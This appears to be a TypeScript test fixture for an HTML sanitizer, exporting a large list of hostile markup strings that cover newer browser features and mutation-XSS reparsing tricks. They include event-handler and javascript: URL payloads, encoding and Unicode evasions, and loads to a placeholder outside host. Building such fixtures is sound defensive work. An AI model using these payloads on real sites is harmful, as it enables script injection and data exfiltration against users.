import { ELSEWHERE, RUNS } from './hostile-runs';

const RUNS_ON_ERROR = `<img src=x onerror="${RUNS}">`;
const SCRIPT = `<script>${RUNS}</script>`;
const DRAWING = `data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUNS.replaceAll("'", '%27')}'/>`;
const b96 = '<b>'.repeat(96);

/** Fills a place that stands elsewhere in the document: Chromium's partial updates. */
const fills = (place: string, content: string): string => `${place}<template for="p">${content}</template>`;

const partialUpdates = [
  ...[RUNS_ON_ERROR, SCRIPT, `<a href="javascript:${RUNS}">words</a>`, `<base href="${ELSEWHERE}/">`].map(
    (content) => fills('<div><?marker name="p"></div>', content),
  ),
  fills('<div><?start name="p">old<?end></div>', RUNS_ON_ERROR),
  fills('<p marker="p"><?start>old<?end></p>', SCRIPT),
  fills('<math><mtext><?marker name="p"></mtext></math>', `<style>${RUNS_ON_ERROR}</style>`),
  fills('<svg><?marker name="p"></svg>', `<style>${RUNS_ON_ERROR}</style>`),
  fills('<svg><title><?marker name="p"></title></svg>', `<svg><script>${RUNS}</script></svg>`),
  fills('<title><?marker name="p"></title>', `</title>${RUNS_ON_ERROR}`),
  fills('<textarea><?marker name="p"></textarea>', `</textarea>${RUNS_ON_ERROR}`),
  fills('<table><?marker name="p"></table>', `<tr><td>${RUNS_ON_ERROR}`),
  `<template for="root"><h1>all of the page</h1>${RUNS_ON_ERROR}</template>`,
  `<template for="body" contentmethod="replace-children">${SCRIPT}</template>`,
  `<template contentfor="main" contentmethod="prepend">${RUNS_ON_ERROR}</template>`,
  `<div><?marker name="a"></div><template for="a">${b96}<?marker name="b"></template><template for="b">${b96}<math><mtext><style>${RUNS_ON_ERROR}</style></mtext></math></template>`,
  `<template for="p" src="${ELSEWHERE}"></template><template patchsrc="${ELSEWHERE}" for="p"></template>`,
];

const shadow = [
  ...['open', 'closed'].map(
    (mode) => `<div><template shadowrootmode="${mode}" shadowrootclonable>${RUNS_ON_ERROR}</template></div>`,
  ),
  `<div><template shadowrootmode="open" shadowrootserializable><style>@import "${ELSEWHERE}.css"</style></template></div>`,
  `<section><template shadowrootmode="open" shadowrootdelegatesfocus><input autofocus onfocus="${RUNS}"></template></section>`,
  `<p><template shadowrootmode="open"><div><template shadowrootmode="open">${SCRIPT}</template></div></template></p>`,
  `<x-own><template shadowrootmode="open" shadowrootcustomelementregistry><slot onslotchange="${RUNS}"></slot></template>words</x-own>`,
  `<div><template shadowrootmode="open" shadowrootadoptedstylesheets="${ELSEWHERE}.css">words</template></div>`,
  `<template><div><template shadowrootmode="open">${RUNS_ON_ERROR}</template></div></template>`,
  `<svg><foreignObject><div><template shadowrootmode="open">${RUNS_ON_ERROR}</template></div></foreignObject></svg>`,
];

const invokers = [
  `<button popovertarget="pop" autofocus>press</button><div id="pop" popover onbeforetoggle="${RUNS}">words</div>`,
  `<div popover="auto" ontoggle="${RUNS}" onbeforetoggle="${RUNS}">words</div>`,
  `<div popover="hint" id="hint">${RUNS_ON_ERROR}</div><a interestfor="hint" href="#">words</a>`,
  `<button command="show-modal" commandfor="dialog">press</button><dialog id="dialog" oncommand="${RUNS}">${RUNS_ON_ERROR}</dialog>`,
  `<dialog open closedby="any" onclose="${RUNS}" oncancel="${RUNS}"><form method="dialog"><button autofocus>press</button></form></dialog>`,
  `<button command="--own" commandfor="target">press</button><p id="target" oncommand="${RUNS}">words</p>`,
  `<button interestfor="target" oninterest="${RUNS}" onloseinterest="${RUNS}">words</button>`,
  `<details name="one" open ontoggle="${RUNS}"><summary>words</summary></details><details name="one" open ontoggle="${RUNS}">more</details>`,
  `<div hidden="until-found" onbeforematch="${RUNS}">words</div>`,
  `<input type="search" onsearch="${RUNS}" autofocus onfocus="${RUNS}">`,
  `<div role="button" tabindex="0" autofocus onfocusin="${RUNS}" onkeydown="${RUNS}">words</div>`,
  `<div contenteditable="plaintext-only" autofocus onfocus="${RUNS}" onbeforeinput="${RUNS}">words</div>`,
  `<permission type="geolocation" onvalidationstatuschange="${RUNS}" onpromptdismiss="${RUNS}"></permission>`,
  `<geolocation autolocate onlocation="${RUNS}">words</geolocation><install installurl="${ELSEWHERE}"></install>`,
  `<p id=":~:text=words" onfocus="${RUNS}" tabindex=1>words</p>`,
];

const selects = [
  ...[
    RUNS_ON_ERROR,
    `<iframe srcdoc="&lt;script&gt;${RUNS}&lt;/script&gt;"></iframe>`,
    `<svg onload="${RUNS}"></svg>`,
    `<math><mtext><style>${RUNS_ON_ERROR}</style></mtext></math>`,
    `<template><style></template>${RUNS_ON_ERROR}`,
  ].map(
    (content) =>
      `<select><button><selectedcontent></selectedcontent></button><option selected>${content}words</option></select>`,
  ),
  `<select><optgroup><legend>${RUNS_ON_ERROR}</legend><option>words</optgroup><selectedcontent></selectedcontent></select>`,
  `<select><div>${RUNS_ON_ERROR}</div><option>words</select>`,
  `<select><noscript><option></noscript>${RUNS_ON_ERROR}</select>`,
  `<select style="appearance:base-select"><option style="background:url(${ELSEWHERE})">words</select>`,
  `<selectedcontent>${RUNS_ON_ERROR}</selectedcontent>`,
  `<input list="l"><datalist id="l"><option>${RUNS_ON_ERROR}</datalist>`,
  `<select><keygen><input autofocus onfocus="${RUNS}"><textarea></select>${RUNS_ON_ERROR}`,
];

const loads = [
  ...['prefetch', 'prerender'].map(
    (how) =>
      `<script type="speculationrules">{"${how}":[{"urls":["${ELSEWHERE}"],"eagerness":"immediate"}]}</script>`,
  ),
  `<script type="importmap">{"imports":{"a":"${ELSEWHERE}.js"}}</script><script type="module">import "a"</script>`,
  `<script type="webbundle">{"source":"${ELSEWHERE}.wbn","resources":["a"]}</script>`,
  ...[
    'preload" as="image',
    'preload" as="script',
    'modulepreload',
    'preconnect',
    'dns-prefetch',
    'manifest',
    'icon',
    'apple-touch-icon',
    'prerender',
    'expect" blocking="render',
    'stylesheet" blocking="render',
    'compression-dictionary',
    'dictionary',
    'import',
    'search',
    'pingback',
    'monetization',
    'facilitated-payment',
    'alternate stylesheet',
  ].map((rel) => `<p>words<link rel="${rel}" href="${ELSEWHERE}"></p>`),
  `<link rel="preload" as="image" imagesrcset="${ELSEWHERE} 1x" imagesizes="100vw">`,
  `<fencedframe></fencedframe><fencedframe src="${ELSEWHERE}"></fencedframe><controlledframe src="${ELSEWHERE}"></controlledframe>`,
  `<iframe credentialless loading="eager" src="${ELSEWHERE}" sharedstoragewritable browsingtopics adauctionheaders></iframe>`,
  `<iframe srcdoc='<meta http-equiv=refresh content="0;url=${ELSEWHERE}">' sandbox="allow-scripts allow-top-navigation"></iframe>`,
  `<iframe src="javascript:top.ran=1" csp="script-src 'unsafe-inline'" privatetoken="{}"></iframe>`,
  `<portal src="${ELSEWHERE}"></portal><webview src="${ELSEWHERE}" nodeintegration></webview><browser src="${ELSEWHERE}">`,
  `<img src="data:," attributionsrc="${ELSEWHERE}"><a href="https://example.org/" attributionsrc="${ELSEWHERE}" ping="${ELSEWHERE}">words</a>`,
  `<img src="data:," sharedstoragewritable browsingtopics elementtiming="a" fetchpriority="high" longdesc="${ELSEWHERE}" usemap="#m"><map name="m"><area href="javascript:${RUNS}" ping="${ELSEWHERE}" shape="default"></map>`,
  ...[
    `${ELSEWHERE} 1x`,
    `data:,x 1x, ${ELSEWHERE} 2x`,
    `,,,${ELSEWHERE}`,
    `${ELSEWHERE}?a,b 100w`,
    `\t\n${ELSEWHERE}\f1x`,
    `//127.0.0.1:9/asked 0.1x`,
  ].map(
    (set) =>
      `<picture><source srcset="${set}" media="all"><img srcset="${set}" sizes="auto" alt="x"></picture>`,
  ),
  `<video controlslist poster="${ELSEWHERE}" src="${ELSEWHERE}" autoplay onencrypted="${RUNS}"><track default kind="metadata" src="${ELSEWHERE}.vtt" oncuechange="${RUNS}"></video>`,
  `<audio autoplay onloadstart="${RUNS}" onplay="${RUNS}"><source src="${ELSEWHERE}" onerror="${RUNS}"></audio>`,
  `<body background="${ELSEWHERE}" onhashchange="${RUNS}" onpageswap="${RUNS}" onpagereveal="${RUNS}"><table background="${ELSEWHERE}"><td background="${ELSEWHERE}">words`,
  `<embed src="${ELSEWHERE}" type="text/html"><object data="${ELSEWHERE}" type="image/svg+xml"><param name="url" value="${ELSEWHERE}"></object><applet code="a" archive="${ELSEWHERE}">`,
  `<input type="image" src="${ELSEWHERE}" formaction="javascript:${RUNS}"><input type="hidden" oncontentvisibilityautostatechange="${RUNS}" style="content-visibility:auto">`,
  `<model src="${ELSEWHERE}"></model><bgsound src="${ELSEWHERE}"><image src="${ELSEWHERE}"><layer src="${ELSEWHERE}"></layer>`,
];

const refreshes = [
  `0;url=${ELSEWHERE}`,
  `0;URL='${ELSEWHERE}'`,
  `0,${ELSEWHERE}`,
  ` 0 ; url = data:text/html,${SCRIPT.replaceAll('"', '')}`,
  `.1 javascript:${RUNS}`,
].map((content) => `<meta http-equiv="refresh" content="${content}">`);

const policies = [
  `<meta http-equiv="content-security-policy" content="script-src 'none'; report-uri ${ELSEWHERE}">`,
  `<meta http-equiv="content-security-policy-report-only" content="default-src 'none'">`,
  `<meta http-equiv="origin-trial" content="AAAA"><meta http-equiv="accept-ch" content="*"><meta http-equiv="delegate-ch" content="sec-ch-ua ${ELSEWHERE}">`,
  `<meta http-equiv="set-cookie" content="a=b"><meta http-equiv="default-style" content="x"><meta name="referrer" content="unsafe-url">`,
  `<meta http-equiv="content-type" content="text/html;charset=utf-7">+ADw-script+AD4-${RUNS}+ADw-/script+AD4-`,
  `<meta charset="iso-2022-jp">\u001B$B<img alt="\u001B(B" src=x onerror=${RUNS}>`,
  `<meta name="view-transition" content="same-origin"><meta name="color-scheme" content="dark"><meta name="monetization" content="${ELSEWHERE}">`,
];

const styled = [
  `background:-webkit-cross-fade(url(${ELSEWHERE}),url(${ELSEWHERE}),50%)`,
  `background:cross-fade(url(${ELSEWHERE}) 50%,red)`,
  `background:-webkit-image-set(url('${ELSEWHERE}') 1x)`,
  `background:image-set('${ELSEWHERE}' type('image/png'))`,
  `background:image(ltr '${ELSEWHERE}');mask:url(${ELSEWHERE}#m)`,
  `-webkit-mask-box-image:url(${ELSEWHERE});border-image-source:url(${ELSEWHERE})`,
  `background:\\75 rl(${ELSEWHERE});filter:url(${ELSEWHERE}#f)`,
  `--u:url(${ELSEWHERE});background:var(--u);clip-path:url(${ELSEWHERE}#c)`,
  `background:if(style(--a):url(${ELSEWHERE});else:url(${ELSEWHERE}))`,
  `shape-outside:url(${ELSEWHERE});offset-path:url(${ELSEWHERE}#p)`,
  `content:url(${ELSEWHERE});quotes:"" "";list-style-image:url(${ELSEWHERE})`,
  `cursor:url(${ELSEWHERE}) 2 2,auto;view-transition-name:root`,
  `background:src("${ELSEWHERE}");-moz-binding:url(${ELSEWHERE}#x)`,
  `position:fixed;inset:0;z-index:9999;anchor-name:--a;position-anchor:--a;position-area:center`,
  `background:url(data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='parent.ran=1'/%3E)`,
  `animation:x 1s;animation-trigger:--t;timeline-trigger:--t view()`,
  `scroll-snap-type:y mandatory;overflow:scroll;scroll-marker-group:after`,
].map((style) => `<p style="${style.replaceAll('"', '&quot;')}" onanimationstart="${RUNS}">words</p>`);

const sheets = [
  `@import url(${ELSEWHERE}.css) layer(a) supports(display:grid) screen;`,
  `@\\69mport "${ELSEWHERE}.css";`,
  `@import'${ELSEWHERE}.css';`,
  `@namespace url(${ELSEWHERE});@font-face{font-family:a;src:url(${ELSEWHERE}) format(woff2) tech(color-SVG)}*{font-family:a}`,
  `@view-transition{navigation:auto}::view-transition{background:url(${ELSEWHERE})}`,
  `@counter-style a{system:cyclic;symbols:url(${ELSEWHERE})}p{list-style:a;display:list-item}`,
  `@property --a{syntax:"<url>";inherits:true;initial-value:url(${ELSEWHERE})}body{background:var(--a)}`,
  `@scope(body){:scope{background:url(${ELSEWHERE})}}`,
  `@container style(--a){}@position-try --a{inset:0}body{&{background:url(${ELSEWHERE})}}`,
  `@function --a(){result:url(${ELSEWHERE})}body{background:--a()}`,
  `input[value^="a"]{background:url(${ELSEWHERE})}html:has(p){background:url(${ELSEWHERE})}`,
  `::selection{background:url(${ELSEWHERE})}::highlight(a){color:red}::scroll-button(*){content:url(${ELSEWHERE})}`,
  `</style${RUNS_ON_ERROR}`,
  `@import "data:text/css,*{background:url(${ELSEWHERE})}";`,
].flatMap((sheet) => [`<style>${sheet}</style><p>words</p>`]);

const drawings = [
  `<svg><a><animate attributeName="href" values="javascript:${RUNS};x" dur="1s" begin="0s" fill="freeze"/><text y="20">words</text></a></svg>`,
  `<svg><a id="a" href="#"><text y="20">words</text></a><animate href="#a" attributeName="href" from="javascript:${RUNS}" to="x"/></svg>`,
  `<svg><set href="#b" attributeName="onclick" to="${RUNS}"/><rect id="b" width="9" height="9"/></svg>`,
  `<svg><discard onbegin="${RUNS}"/><animateMotion onend="${RUNS}" dur="1ms"/></svg>`,
  `<svg><script href="${ELSEWHERE}.js"/><script xlink:href="data:text/javascript,${RUNS}"/></svg>`,
  `<svg><use href="${ELSEWHERE}#x"/><use href="${DRAWING}#x"/></svg>`,
  `<svg><feImage href="${ELSEWHERE}"/><filter id="f"><feImage xlink:href="${ELSEWHERE}"/></filter><image filter="url(${ELSEWHERE}#f)" href="${ELSEWHERE}"/></svg>`,
  `<svg><textPath href="${ELSEWHERE}#p">words</textPath><mpath href="${ELSEWHERE}"/><pattern href="${ELSEWHERE}"/><linearGradient href="${ELSEWHERE}"/></svg>`,
  `<svg><rect fill="url(${ELSEWHERE}#a)" marker-start="url(${ELSEWHERE}#m)" mask="url('${ELSEWHERE}#k')" clip-path="url(${ELSEWHERE})"/></svg>`,
  `<svg><font-face-uri xlink:href="${ELSEWHERE}"/><color-profile xlink:href="${ELSEWHERE}"/><cursor xlink:href="${ELSEWHERE}"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:parent.ran=1"></iframe><body onload="${RUNS}"></foreignObject></svg>`,
  `<svg onload="${RUNS}" onunload="${RUNS}" onresize="${RUNS}" onzoom="${RUNS}"><title onload="${RUNS}">words</title></svg>`,
  `<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${RUNS}</h:script><h:img src="x" onerror="${RUNS}"/></svg>`,
  `<?xml-stylesheet type="text/css" href="${ELSEWHERE}.css"?><?xml-stylesheet type="text/xsl" href="#x"?><p>words</p>`,
  `<?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cxsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' version='1.0'/%3E"?>`,
  `<!DOCTYPE x [<!ENTITY x SYSTEM "${ELSEWHERE}"><!ENTITY y "<img src=x onerror=${RUNS}>">]><p>&x;&y;</p>`,
  `<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="${ELSEWHERE}"/><v:vmlframe src="${ELSEWHERE}" xmlns:v="urn:schemas-microsoft-com:vml"/>`,
  `<math href="javascript:${RUNS}"><mi href="javascript:${RUNS}" xlink:href="javascript:${RUNS}">words</mi></math>`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${RUNS}</script></annotation-xml></semantics><mglyph src="${ELSEWHERE}"/></math>`,
  `<math><mtext onclick="${RUNS}" onfocus="${RUNS}" tabindex="1" autofocus>words</mtext><ms lquote="${ELSEWHERE}">x</ms></math>`,
];

/** Markup that a second parse reads differently, as found since 2024. */
const reparsed = [
  `<svg></p><textarea><title><style></textarea>${RUNS_ON_ERROR}</style></title></svg>`,
  `<svg></p><title><template><style></title>${RUNS_ON_ERROR}`,
  `<math></br><textarea><mtext><template><style></textarea>${RUNS_ON_ERROR}`,
  `<svg></p><math><title><style>${RUNS_ON_ERROR}</style></title>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUNS} src>">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${RUNS.replaceAll("'", '&#39;')}'>"></style></h1>`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${RUNS}>">`,
  `a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=${RUNS}>">`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${RUNS}>">`,
  `<xmp><svg><b><style><b title='</style><img src=x onerror=${RUNS}>'>`,
  `<! foo="><img src=x onerror=${RUNS}>">words</! x>`,
  `</ foo="><img src=x onerror=${RUNS}>">words`,
  `<? foo="?><img src=x onerror=${RUNS}>" ?>words`,
  `<![CDATA[ ><img src=x onerror=${RUNS}> ]]>words`,
  `<svg><![CDATA[</svg>${RUNS_ON_ERROR}]]></svg>`,
  `<!--><img src=x onerror=${RUNS}>--><!---><img src=x onerror=${RUNS}>-->`,
  `<!-- <!-- --!><img src=x onerror=${RUNS}>`,
  `<script><!--<script>--></script>${RUNS_ON_ERROR}</script>`,
  `<pre>\n\n<textarea>\n\n</textarea><listing>\n</pre>${RUNS_ON_ERROR}`,
  `<p><svg><p><style><g title="</style>${RUNS_ON_ERROR.replaceAll('"', '')}">`,
  `<table><caption><svg><foreignObject><table><svg><style><p title="</style><img src=x onerror=${RUNS}>">`,
  `<a><table><a><svg><mtext><style><a title="</style><img src=x onerror=${RUNS}>">`,
  `<noscript><style></noscript>${RUNS_ON_ERROR}</style></noscript>`,
  `<noembed><p title="</noembed><img src=x onerror=${RUNS}>"></noembed>`,
  `<ruby><rtc><svg><rt><style><p title="</style><img src=x onerror=${RUNS}>">`,
  `<frameset><frame src="javascript:${RUNS}"></frameset><noframes><p title="</noframes><img src=x onerror=${RUNS}>">`,
  `${'<form><div>'.repeat(130)}<svg><style><img src=x onerror=${RUNS}>`,
  `${'<svg><foreignObject>'.repeat(170)}<style><img src=x onerror=${RUNS}></style>`,
  `<dialog><plaintext><img src=x onerror=${RUNS}>`,
  `<search><hgroup><p title="&lt;/p&gt;${RUNS_ON_ERROR.replaceAll('"', '&quot;').replaceAll('<', '&lt;')}">words</p></hgroup></search>`,
];

const letters = [
  `<img\u000Csrc=x\u000Conerror=${RUNS}>`,
  `<img\u000Bsrc=x\u000Bonerror=${RUNS}>`,
  `<img src=x o\u0000nerror=${RUNS}>`,
  `<ımg src=x onerror=${RUNS}><ſcript>${RUNS}</ſcript><\u212Aeygen autofocus onfocus=${RUNS}>`,
  `<img src=x onerror\u00A0=${RUNS}><img/src/onerror=${RUNS}//>`,
  `\uFEFF\u202E<img src=x onerror=${RUNS}>\u2066<script>${RUNS}</script>`,
  `\uD800<script>${RUNS}</script>\uDFFF<img src=x onerror=${RUNS}>`,
  `<img src=x onerror=&#x77;indow.ran&equals;1&semi;fetch&lpar;&apos;/ran&apos;&rpar;>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUNS}">words</a>`,
  `<a href="java&NewLine;&Tab;script&colon;${RUNS}">words</a>`,
  `<a href="\u2028javascript:${RUNS}">words</a><a href="javascript\u200B:${RUNS}">words</a>`,
  `<a href="&#0000106avascript:${RUNS}" target="_blank" rel="opener" download ping="${ELSEWHERE}">words</a>`,
  `+ADw-script+AD4-${RUNS}+ADw-/script+AD4-\u001B(J<script>${RUNS}</script>`,
  `%3Cscript%3E${RUNS}%3C/script%3E\\u003cscript\\u003e${RUNS}\\u003c/script\\u003e`,
  `{{constructor.constructor("${RUNS}")()}}\${${RUNS}}<%= ${RUNS} %>#{${RUNS}}`,
  `]]><img src=x onerror=${RUNS}></svg></math></template>`,
  `<p is="x-own" exportparts="a" part="a" slot="a" itemprop="x" itemid="${ELSEWHERE}" itemtype="${ELSEWHERE}" about="${ELSEWHERE}" resource="${ELSEWHERE}" typeof="x" data-href="${ELSEWHERE}">words</p>`,
  `<form id="f" onformdata="${RUNS}" action="javascript:${RUNS}" target="_top"><button formmethod="post" formtarget="_self">press</button></form><input form="f" dirname="location" name="submit">`,
  `<div onscrollsnapchange="${RUNS}" onscrollsnapchanging="${RUNS}" onscrollend="${RUNS}" style="overflow:scroll;scroll-snap-type:y mandatory;height:9px"><p style="scroll-snap-align:start;height:99px">words</p></div>`,
  `<p oncontentvisibilityautostatechange="${RUNS}" style="content-visibility:auto">words</p>`,
];

/** Hostile markup that uses browser features since 2023, and bypasses found since then. */
export const PLATFORM: readonly string[] = [
  ...[partialUpdates, shadow, invokers, selects, loads, refreshes, policies].flat(),
  ...[styled, sheets, drawings, reparsed, letters].flat(),
];
